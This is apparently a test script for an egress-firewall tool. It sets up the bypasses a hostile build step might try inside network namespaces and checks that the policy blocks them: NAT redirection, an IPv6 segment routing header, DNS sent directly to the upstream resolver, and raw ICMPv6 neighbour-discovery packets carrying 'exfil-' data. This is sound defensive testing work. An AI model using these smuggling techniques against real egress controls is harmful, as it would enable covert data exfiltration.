#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Bypass attempts a hostile build step makes, kept as tests: each sets up
# what the step would, from the runner, through the kernel, and checks the
# policy holds - for both backends, loaded the way apply loads them.
#
#   nat      a nat output rule sends a packet for the runner's own address
#            to a denied host: the filter sees the new destination leaving
#            on "lo", which is exempt only for local destinations
#   inbound  a host connects in to a listener on the runner - a denied
#            one, and one the policy neither allows nor denies: replies
#            to a connection that came in meet the policy, so neither gets
#            anything back
#   race     two applies of different policies at once: the firewall,
#            the hosts file and the fragment must end from one of them
#   kill     apply killed (SIGKILL) while iptables-restore runs: the tool
#            must die with it, and the next apply must load the policy
#   srh      an IPv6 segment routing header via an allowed address to a
#            denied one
#   dns      under 'resolver', DNS straight to the upstream resolver - as
#            nobody, as root, over TCP, over QUIC (udp/853) - is blocked:
#            only the forwarder's user reaches it
#   nd       neighbour discovery messages (the hop limit of 255 they need)
#            from a raw socket, carrying data to a denied host: off the
#            link, on it, and to all nodes of the link; the kernel's own
#            neighbour discovery, and a router solicitation from user
#            space (systemd-networkd sends its own), must still work
#
# The attempts through DNS answers - a CNAME out of a wildcard's domain,
# a private or link-local answer, a stale dnsmasq filling a new policy's
# sets - need a real dnsmasq and a zone: tests/runtime.sh keeps them.
#
#   PROBE=build/tests/probe tests/adversarial.sh EGRESSC
#@check full
set -u
egressc=${1:?usage: tests/adversarial.sh EGRESSC}
egressc=$(cd "$(dirname "$egressc")" && pwd)/$(basename "$egressc")
cd "$(dirname "$0")/.." || exit 2
PROBE=$(cd "$(dirname "${PROBE:?set PROBE to the probe binary}")" && pwd)/$(basename "$PROBE")
. tests/lib.sh
testlib_init adversarial
. tests/netns.sh
TCP_TIMEOUT_MS=800

cat >"$tmp/policy.eg" <<'EOF'
essentials off
default deny
on-deny reject
deny 192.0.2.2                      # the server's own address: it connects in
allow 198.51.100.10 port 443
EOF
"$egressc" -O "$tmp/out" "$tmp/policy.eg" || { echo "adversarial: cannot compile"; exit 1; }

# alive PID: running - not gone, and not a zombie its new parent has not
# reaped yet.
alive() {
	local state
	state=$(awk '{ print $3 }' "/proc/$1/stat" 2>/dev/null)
	[ -n "$state" ] && [ "$state" != Z ]
}
dead() { ! alive "$1"; }

# inbound BACKEND WHO: a listener on the runner (ip netns exec execs the
# probe, so the pid netns_cleanup kills is the listener's); the server
# connects in, and must get nothing back, over TCP or UDP.
inbound() {
	local got
	ip netns exec "$NS_CLIENT" "$PROBE" serve 7000 >/dev/null 2>&1 &
	NETNS_PIDS+=($!)
	sleep 0.3
	got=$(ip netns exec "$NS_SERVER" "$PROBE" tcp 192.0.2.1 7000 "$TCP_TIMEOUT_MS" 2>&1)
	expect "$1: inbound: $2 gets nothing back over TCP ($got)" [ "$got" != connected ]
	got=$(ip netns exec "$NS_SERVER" "$PROBE" udp 192.0.2.1 7000 "$TCP_TIMEOUT_MS" 2>&1)
	expect "$1: inbound: $2 gets nothing back over UDP ($got)" [ "$got" != echoed ]
}

# in_client CMD...: CMD in the runner.
in_client() { ip netns exec "$NS_CLIENT" "$@"; }

for backend in nft iptables; do
	netns_setup || exit 1
	netns_add_server_addr 198.51.100.9
	netns_add_server_addr 198.51.100.10
	netns_serve 443
	expect "$backend: apply" in_client "$egressc" apply --backend "$backend" \
		--hosts-path "$tmp/hosts" --dnsmasq-path "$tmp/dnsmasq.conf" "$tmp/out" >/dev/null
	expect "$backend: the allowed host connects" [ "$(probe 198.51.100.10 443)" = connected ]
	expect "$backend: the denied host is refused" [ "$(probe 198.51.100.9 443)" != connected ]

	# nat: the runner's own 192.0.2.1:443 is sent to the denied
	# 198.51.100.9:443, before the filter and after it.
	for prio in -100 100; do
		expect "$backend: nat $prio: the rule loads" in_client nft -f - <<-EOF
		table ip adversarial-nat {
			chain output {
				type nat hook output priority $prio; policy accept;
				ip daddr 192.0.2.1 tcp dport 443 dnat to 198.51.100.9
			}
		}
		EOF
		expect "$backend: nat $prio: the runner's address sent to a denied host is refused" \
			[ "$(probe 192.0.2.1 443)" != connected ]
		in_client nft delete table ip adversarial-nat
	done
	expect "$backend: nat: loopback itself still works" \
		[ "$(in_client "$PROBE" tcp 127.0.0.1 9 300 2>&1)" = refused ]

	# inbound: a listener on the runner (ip netns exec execs the probe, so
	# the pid netns_cleanup kills is the listener's); the server connects in
	# from its address, which this policy denies (the dns policy below
	# neither allows nor denies it).
	inbound "$backend" "a denied host"
	netns_cleanup
done

# race: rounds of two applies at once, of policies that differ in what
# they allow; each part must end from the same policy, whichever won.
netns_setup || exit 1
for p in a b; do
	addr=198.51.100.1$([ $p = a ] && echo 0 || echo 1)
	printf 'essentials off\ndefault deny\nallow %s port 443\nallow *.%s.test port 443\n' \
		"$addr" "$p" >"$tmp/race-$p.eg"
	"$egressc" -O "$tmp/race-$p" "$tmp/race-$p.eg" || bad "race: compile $p"
done
mixed=0
for round in 1 2 3 4 5 6 7 8 9 10; do
	for p in a b; do
		in_client "$egressc" apply --hosts-path "$tmp/race.hosts" \
			--dnsmasq-path "$tmp/race.conf" "$tmp/race-$p" >/dev/null 2>&1 &
	done
	wait
	fw=$(in_client nft list table inet egressc | grep -o '198\.51\.100\.1[01]' | sort -u)
	hosts=$(grep -o "race-[ab]\.eg" "$tmp/race.hosts" | sort -u)
	frag=$(grep -o "race-[ab]\.eg" "$tmp/race.conf" | sort -u)
	case "$fw/$hosts/$frag" in
	198.51.100.10/race-a.eg/race-a.eg | 198.51.100.11/race-b.eg/race-b.eg) ;;
	*) mixed=$((mixed + 1)); echo "    round $round: firewall $fw, hosts $hosts, fragment $frag" ;;
	esac
done
expect "race: every part from one policy, 10 rounds of two applies ($mixed mixed)" [ $mixed -eq 0 ]
netns_cleanup

# kill: an iptables-restore that hangs (its pid in a file), apply killed.
netns_setup || exit 1
mkdir -p "$tmp/slowbin"
printf '#!/bin/bash\necho $$ >"%s"\nexec sleep 30\n' "$tmp/slow.pid" >"$tmp/slowbin/iptables-restore"
chmod 755 "$tmp/slowbin/iptables-restore"
# ip netns exec and env exec, so $! is apply itself.
ip netns exec "$NS_CLIENT" env PATH="$tmp/slowbin:$PATH" "$egressc" apply --backend iptables \
	--hosts-path "$tmp/kill.hosts" --dnsmasq-path "$tmp/kill.conf" "$tmp/out" >/dev/null 2>&1 &
applier=$!
for _ in $(seq 50); do [ -s "$tmp/slow.pid" ] && break; sleep 0.1; done
expect "kill: the slow tool started" [ -s "$tmp/slow.pid" ]
kill -9 $applier
wait $applier 2>/dev/null
expect "kill: it was apply that was killed" dead "$applier"
sleep 0.3
expect "kill: the tool died with apply" dead "$(cat "$tmp/slow.pid" 2>/dev/null || echo 0)"
expect "kill: the next apply loads the policy" in_client "$egressc" apply --backend iptables \
	--hosts-path "$tmp/kill.hosts" --dnsmasq-path "$tmp/kill.conf" "$tmp/out" >/dev/null
expect "kill: the denied host is refused" [ "$(probe 198.51.100.9 443)" != connected ]
netns_cleanup

# dns: only the forwarder (user dnsmasq) reaches the resolver, and only it.
cat >"$tmp/dns.eg" <<'EOF'
essentials off
default deny
resolver 198.51.100.53
allow 198.51.100.10 port 443
EOF
"$egressc" -O "$tmp/dns" "$tmp/dns.eg" || bad "dns: compile"
# as USER PROTO ADDR PORT: what the probe says, sent as USER.
as() {
	local user=$1
	shift
	in_client setpriv --reuid="$user" --regid=65534 --clear-groups "$PROBE" "$@" 500 2>&1
}
for backend in nft iptables; do
	netns_setup || exit 1
	netns_add_server_addr 198.51.100.53
	netns_add_server_addr 198.51.100.54
	netns_add_server_addr 198.51.100.10
	netns_serve 53,80,853
	expect "$backend: dns: apply" in_client "$egressc" apply --backend "$backend" \
		--hosts-path "$tmp/hosts" --dnsmasq-path "$tmp/dnsmasq.conf" "$tmp/dns" >/dev/null
	for who in 65534 0; do
		for svc in "udp 53" "tcp 53" "udp 853" "tcp 853"; do
			# shellcheck disable=SC2086 # PROTO and PORT
			got=$(as $who ${svc% *} 198.51.100.53 ${svc#* })
			expect "$backend: dns: uid $who to the resolver, ${svc/ //} is blocked ($got)" \
				[ "$got" != connected -a "$got" != echoed ]
		done
	done
	for svc in "udp 53" "tcp 53" "tcp 853"; do
		# shellcheck disable=SC2086 # PROTO and PORT
		got=$(as dnsmasq ${svc% *} 198.51.100.53 ${svc#* })
		expect "$backend: dns: the forwarder to the resolver, ${svc/ //} ($got)" \
			[ "$got" = connected -o "$got" = echoed ]
	done
	got=$(as dnsmasq udp 198.51.100.54 53)
	expect "$backend: dns: the forwarder to another server is blocked ($got)" \
		[ "$got" != connected -a "$got" != echoed ]
	got=$(as dnsmasq tcp 198.51.100.10 80)
	expect "$backend: dns: the forwarder, anything but DNS, is the policy's ($got)" \
		[ "$got" != connected ]
	inbound "$backend" "a host the policy neither allows nor denies"
	netns_cleanup
done

# srh: an IPv6 segment routing header (any user may set one) sends a packet
# first to an allowed address, then on to a denied one: the header goes
# to the first segment, past the policy, unless the ruleset drops it.
cat >"$tmp/srh.eg" <<'EOF'
essentials off
default deny
deny 2001:db8:9::9
allow 2001:db8:10::10
EOF
"$egressc" -O "$tmp/srh" "$tmp/srh.eg" || bad "srh: compile"
for backend in nft iptables; do
	netns_setup || exit 1
	netns_add_server_addr 2001:db8:10::10
	netns_add_server_addr 2001:db8:9::9
	ip netns exec "$NS_SERVER" sysctl -qw net.ipv6.conf.all.seg6_enabled=1 \
		net.ipv6.conf.eth0.seg6_enabled=1 net.ipv6.conf.all.forwarding=1
	expect "$backend: srh: apply" in_client "$egressc" apply --backend "$backend" \
		--hosts-path "$tmp/hosts" --dnsmasq-path "$tmp/dnsmasq.conf" "$tmp/srh" >/dev/null
	ip netns exec "$NS_SERVER" /usr/bin/python3 -c '
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.bind(("2001:db8:9::9", 5000)); s.settimeout(2)
try: print(s.recvfrom(100)[0].decode())
except OSError: print("nothing")' >"$tmp/srh.got" 2>&1 &
	receiver=$!
	sleep 0.3
	in_client setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 -c '
import socket, struct
via = socket.inet_pton(socket.AF_INET6, "2001:db8:10::10")
final = socket.inet_pton(socket.AF_INET6, "2001:db8:9::9")
srh = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + final + via
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IPV6, 57, srh)   # IPV6_RTHDR
try: s.sendto(b"through-srh", ("2001:db8:9::9", 5000))
except OSError: pass' 2>/dev/null
	wait $receiver
	expect "$backend: srh: the denied host gets nothing ($(cat "$tmp/srh.got"))" \
		[ "$(cat "$tmp/srh.got")" = nothing ]
	netns_cleanup
done

# nd: a process with a raw ICMPv6 socket sends neighbour solicitations and
# advertisements with data in them, hop limit 255, to denied hosts. The
# kernel's own neighbour discovery needs no user's packet to reach them.
cat >"$tmp/nd.eg" <<'EOF'
essentials off
default deny
deny 2001:db8::2
deny 2001:db8:9::9
allow 2001:db8:10::10
EOF
"$egressc" -O "$tmp/nd" "$tmp/nd.eg" || bad "nd: compile"
for backend in nft iptables; do
	netns_setup || exit 1
	netns_add_server_addr 2001:db8:10::10
	netns_add_server_addr 2001:db8:9::9
	netns_serve 443
	expect "$backend: nd: apply" in_client "$egressc" apply --backend "$backend" \
		--hosts-path "$tmp/hosts" --dnsmasq-path "$tmp/dnsmasq.conf" "$tmp/nd" >/dev/null
	# What reaches the server's ICMPv6 raw socket, whatever its address.
	ip netns exec "$NS_SERVER" /usr/bin/python3 -c '
import socket, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.settimeout(0.2)
end = time.time() + 2.5
while time.time() < end:
    try: data = s.recv(2000)
    except OSError: continue
    if b"exfil-" in data: print(data[data.index(b"exfil-"):].decode(errors="replace"))' \
		>"$tmp/nd.got" 2>&1 &
	receiver=$!
	sleep 0.3
	# Type 135 solicits, 136 advertises: an 8-byte header, the target,
	# then the data. To the off-link denied host, the on-link one, and
	# the all-nodes group (which the on-link host hears too).
	in_client /usr/bin/python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
idx = socket.if_nametoindex("eth0")
target = socket.inet_pton(socket.AF_INET6, "2001:db8::2")
for kind, dst in ((135, "2001:db8:9::9"), (136, "2001:db8:9::9"),
                  (135, "2001:db8::2"), (136, "2001:db8::2"), (136, "ff02::1")):
    msg = struct.pack("!BBHI", kind, 0, 0, 0) + target + b"exfil-%d-%s" % (kind, dst.encode())
    try: s.sendto(msg, (dst, 0, 0, idx if dst.startswith("ff") else 0))
    except OSError: pass
# A router solicitation, as systemd-networkd sends one from user space.
try: print("sent", s.sendto(struct.pack("!BBHI", 133, 0, 0, 0), ("ff02::2", 0, 0, idx)))
except OSError as e: print(e)' >"$tmp/nd.rs" 2>&1
	wait $receiver
	expect "$backend: nd: no data reaches a denied host ($(tr '\n' ' ' <"$tmp/nd.got"))" \
		[ ! -s "$tmp/nd.got" ]
	expect "$backend: nd: a user's router solicitation goes out ($(cat "$tmp/nd.rs"))" \
		[ "$(cat "$tmp/nd.rs")" = "sent 8" ]
	# The kernel resolves its neighbours anew, and the allowed host
	# beyond the (denied) gateway is still reached.
	in_client ip -6 neigh flush dev eth0
	expect "$backend: nd: the kernel's neighbour discovery works" \
		[ "$(probe 2001:db8:10::10 443)" = connected ]
	netns_cleanup
done

testlib_finish
